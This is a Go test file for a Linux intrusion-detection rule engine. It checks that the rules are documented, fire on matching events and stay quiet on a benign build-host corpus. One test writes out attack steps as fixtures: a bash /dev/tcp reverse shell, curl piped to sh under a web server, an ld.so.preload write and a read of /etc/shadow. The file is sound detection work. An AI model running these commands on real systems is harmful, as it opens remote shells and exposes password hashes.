package detect

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"go.yaml.in/yaml/v3"

	"github.com/hauberk/hauberk/detect/internal/attack"
	"github.com/hauberk/hauberk/detect/internal/engine"
	"github.com/hauberk/hauberk/detect/internal/ruleset"
	"github.com/hauberk/hauberk/event"
	"github.com/hauberk/hauberk/rules"
	"github.com/hauberk/hauberk/sigma"
)

const testdata = "../rules/testdata"

// ownRules loads the embedded rules; none may be refused.
func ownRules(t testing.TB) *ruleset.Rules {
	t.Helper()
	loaded, err := ruleset.Load([]ruleset.Source{{Name: rules.Name, FS: rules.FS()}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range loaded.Problems {
		t.Errorf("refused: %v", p.Err)
	}
	return loaded
}

// Every field of our own rules exists, whatever the runtime lets pass.
func TestOwnRulesUseFieldsThatExist(t *testing.T) {
	loaded := ownRules(t)
	report, err := sigma.Check(rules.FS(), ".", ruleset.Options(loaded.View, sigma.RefuseMissing))
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range report.Rules {
		for _, e := range v.Errors {
			t.Error(e)
		}
		if v.Idle {
			t.Errorf("%s: no event serves its log source", v.File)
		}
		if v.Untriggered && slices.Contains(v.Classes, "exec") {
			t.Errorf("%s:%d has no literal text: it would be evaluated at every exec", v.File, v.Line)
		}
	}
}

// What every rule must say of itself.
func TestOwnRulesAreDocumented(t *testing.T) {
	parsed, errs := sigma.ParseFS(rules.FS(), ".")
	for _, e := range errs {
		t.Error(e)
	}
	ids := map[string]string{}
	raised := 0
	for _, r := range parsed {
		at := fmt.Sprintf("%s:%d %s", r.File, r.Line, r.Title)
		if old := ids[r.ID]; old != "" || r.ID == "" {
			t.Errorf("%s: id %q is empty or that of %s", at, r.ID, old)
		}
		ids[r.ID] = at
		if r.Title == "" || r.Description == "" || r.Author == "" || r.Date == "" || r.Level == sigma.LevelNone {
			t.Errorf("%s: wants title, description, author, date and level", at)
		}
		if r.Level == sigma.LevelInformational {
			continue // members of correlations raise nothing
		}
		raised++
		if len(r.Techniques()) == 0 || len(r.Tactics()) == 0 {
			t.Errorf("%s: wants ATT&CK techniques and tactics", at)
		}
		for _, id := range r.Techniques() {
			if attack.Technique(id) == "" || strings.HasPrefix(id, "T1562") {
				t.Errorf("%s: technique %s has no name, or is one of the old ids", at, id)
			}
		}
		for _, slug := range r.Tactics() {
			if attack.Tactic(slug) == slug || slug == "defense-evasion" {
				t.Errorf("%s: tactic %s has no name, or is an old one", at, slug)
			}
		}
		if r.Level < sigma.LevelHigh && r.Level > sigma.LevelLow && len(r.FalsePositives) == 0 {
			t.Errorf("%s: wants a word on false positives", at)
		}
	}
	if raised < 100 {
		t.Errorf("%d rules raise alerts, expected at least 100", raised)
	}
}

// stage runs events through rules as detect does, one a second, and gives the
// titles of the rules that raised alerts, with their severities.
type stage struct {
	rules   *ruleset.Rules
	matcher *engine.Matcher
}

func newStage(t testing.TB) *stage {
	loaded := ownRules(t)
	return &stage{loaded, engine.NewMatcher(loaded)}
}

func (s *stage) run(t testing.TB, events []*event.Event) map[string]*event.Alert {
	t.Helper()
	c := DefaultConfig()
	e := engine.New(s.rules, limits(c))
	b := event.NewBuilder(event.NodeID{1}, 1, event.Class_CLASS_BULK)
	base := time.Unix(1_700_000_000, 0)
	for i, x := range events {
		if err := b.Add(uint64(i+1), base.Add(time.Duration(i)*time.Second).UnixNano(), 0, x); err != nil {
			t.Fatal(err)
		}
	}
	batch := b.Take()
	batch.Tenant, batch.Host = "t", &event.Host{Name: "h"}
	alerts := e.Judge(s.matcher.Batch(batch, nil), base, nil)
	raised := map[string]*event.Alert{}
	for _, a := range alerts {
		raised[a.RuleId] = a
	}
	return raised
}

// Each rule fires on the events that it is for, and not on those that look
// alike.
func TestOwnRulesOnTheirEvents(t *testing.T) {
	s := newStage(t)
	tested := map[string]bool{}
	err := fs.WalkDir(rules.FS(), ".", func(name string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		text, err := fs.ReadFile(rules.FS(), name)
		if err != nil {
			return err
		}
		parsed, _ := sigma.Parse(name, text)
		if len(parsed) == 0 {
			return nil // reported above
		}
		rule := parsed[0]
		data, err := os.ReadFile(filepath.Join(testdata, name))
		if err != nil {
			t.Errorf("%s has no test: %v", name, err)
			return nil
		}
		var cases struct {
			Match []steps `yaml:"match"`
			Pass  []steps `yaml:"pass"`
		}
		dec := yaml.NewDecoder(bytes.NewReader(data))
		dec.KnownFields(true)
		if err := dec.Decode(&cases); err != nil {
			t.Errorf("%s: %v", name, err)
			return nil
		}
		if len(cases.Match) == 0 || len(cases.Pass) == 0 {
			t.Errorf("%s: wants events to match and events to pass", name)
		}
		tested[filepath.Join(testdata, name)] = true
		t.Run(strings.TrimSuffix(strings.TrimPrefix(name, "linux/"), ".yml"), func(t *testing.T) {
			for want, list := range map[bool][]steps{true: cases.Match, false: cases.Pass} {
				for i, c := range list {
					events, err := c.events()
					if err != nil {
						t.Fatal(err)
					}
					if got := s.run(t, events)[rule.ID] != nil; got != want {
						t.Errorf("event %d: raised %v, want %v: %+v", i+1, got, want, c)
					}
				}
			}
		})
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	err = filepath.WalkDir(filepath.Join(testdata, "linux"), func(name string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() && !tested[name] {
			t.Errorf("%s tests no rule", name)
		}
		return err
	})
	if err != nil {
		t.Error(err)
	}
}

// The four steps of the issue, event by event as an agent reports them: each
// raises the alert that names it, and no other of high or critical level but
// those listed.
func TestFirstStepsOfAnAttack(t *testing.T) {
	s := newStage(t)
	for _, step := range []struct {
		name, events string
		want         map[string]event.Severity
	}{
		{"reverse shell", `
- {exec: [bash, -c, 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'], uid: 0, stdin: /dev/null}
- {connect: '127.0.0.1:4444', exe: /usr/bin/bash, uid: 0}
- {exec: 'bash -i', uid: 0, sockets: 7, stdin: socket}
- {exec: id, uid: 0, sockets: 7, stdin: socket, parent: /usr/bin/bash}`,
			map[string]event.Severity{
				"Reverse shell through bash's /dev/tcp":       event.Severity_SEVERITY_CRITICAL,
				"Shell with a socket as its standard streams": event.Severity_SEVERITY_CRITICAL,
			}},
		{"curl | sh below a web server", `
- {exec: [/bin/sh, /srv/cgi-bin/shop], exe: /usr/bin/dash, script: /srv/cgi-bin/shop, uid: 33, stdin: pipe, parent: /usr/sbin/apache2, anc: [/usr/sbin/apache2]}
- {exec: 'curl -s http://127.0.0.1:8000/', uid: 33, parent: /usr/bin/dash, anc: [/usr/sbin/apache2, /usr/sbin/apache2]}
- {exec: sh, exe: /usr/bin/dash, uid: 33, stdin: 'pipe:[77]', parent: /usr/bin/dash, anc: [/usr/sbin/apache2, /usr/sbin/apache2]}`,
			map[string]event.Severity{"Shell below a web server reads commands from a pipe": event.Severity_SEVERITY_CRITICAL}},
		{"preload", `
- {file: /etc/ld.so.preload, action: created, exe: /usr/bin/touch, uid: 0}
- {file: /etc/ld.so.preload, action: deleted, exe: /usr/bin/rm, uid: 0}`,
			map[string]event.Severity{"Write to /etc/ld.so.preload": event.Severity_SEVERITY_CRITICAL}},
		{"shadow", `
- {exec: 'cat /etc/shadow', uid: 33}
- {denied: /etc/shadow, exe: /usr/bin/cat, uid: 33}`,
			map[string]event.Severity{"Service user tries to read password hashes": event.Severity_SEVERITY_HIGH}},
	} {
		t.Run(step.name, func(t *testing.T) {
			var c steps
			if err := yaml.Unmarshal([]byte(step.events), &c); err != nil {
				t.Fatal(err)
			}
			events, err := c.events()
			if err != nil {
				t.Fatal(err)
			}
			got := map[string]event.Severity{}
			for _, a := range s.run(t, events) {
				if a.Severity >= event.Severity_SEVERITY_HIGH {
					got[a.RuleName] = a.Severity
				}
			}
			if !maps.Equal(got, step.want) {
				t.Errorf("raised %v, want %v", got, step.want)
			}
		})
	}
}

// recorded is one exec of a real build host, as rules/testdata/benign.jsonl.gz
// has it.
type recorded struct {
	Exe       string   `json:"exe"`
	Args      []string `json:"args"`
	Ancestors []string `json:"anc"`
	UID       uint32   `json:"uid"`
	CWD       string   `json:"cwd"`
	Script    string   `json:"script"`
}

// quietCorpus gives the events of an ordinary build host: those recorded, and
// those written down in benign.yml.
func quietCorpus(t testing.TB) []*event.Event {
	t.Helper()
	file, err := os.Open(filepath.Join(testdata, "benign.jsonl.gz"))
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	unzipped, err := gzip.NewReader(file)
	if err != nil {
		t.Fatal(err)
	}
	var events []*event.Event
	lines := bufio.NewScanner(io.LimitReader(unzipped, 64<<20))
	lines.Buffer(nil, 1<<20)
	for lines.Scan() {
		var r recorded
		if err := json.Unmarshal(lines.Bytes(), &r); err != nil {
			t.Fatal(err)
		}
		s := scene{Exec: words{list: r.Args, given: true}, Exe: r.Exe, Ancestors: r.Ancestors, UID: &r.UID, CWD: r.CWD, Script: r.Script}
		e, err := s.event()
		if err != nil {
			t.Fatal(err)
		}
		events = append(events, e)
	}
	if err := lines.Err(); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(filepath.Join(testdata, "benign.yml"))
	if err != nil {
		t.Fatal(err)
	}
	var written []steps
	dec := yaml.NewDecoder(bytes.NewReader(data))
	dec.KnownFields(true)
	if err := dec.Decode(&written); err != nil {
		t.Fatal(err)
	}
	for _, w := range written {
		more, err := w.events()
		if err != nil {
			t.Fatal(err)
		}
		events = append(events, more...)
	}
	return events
}

var digits = regexp.MustCompile(`[0-9]+`)

// An ordinary build host raises nothing high, and little else.
func TestQuietOnABuildHost(t *testing.T) {
	events := quietCorpus(t)
	if len(events) < 500 {
		t.Fatalf("the corpus has %d events", len(events))
	}
	s := newStage(t)
	count := map[event.Severity]int{}
	for _, a := range s.run(t, events) {
		count[a.Severity]++
		if a.Severity >= event.Severity_SEVERITY_HIGH {
			t.Errorf("%s: %s: %s", a.Severity.Word(), a.RuleName, a.Summary)
		} else {
			t.Logf("%s: %s: %s", a.Severity.Word(), a.RuleName, digits.ReplaceAllString(a.Summary, "N"))
		}
	}
	if n := count[event.Severity_SEVERITY_MEDIUM]; n > 10 {
		t.Errorf("%d rules of medium level fire on %d events", n, len(events))
	}
	t.Logf("%d events: %v", len(events), slices.Sorted(maps.Keys(count)))
}
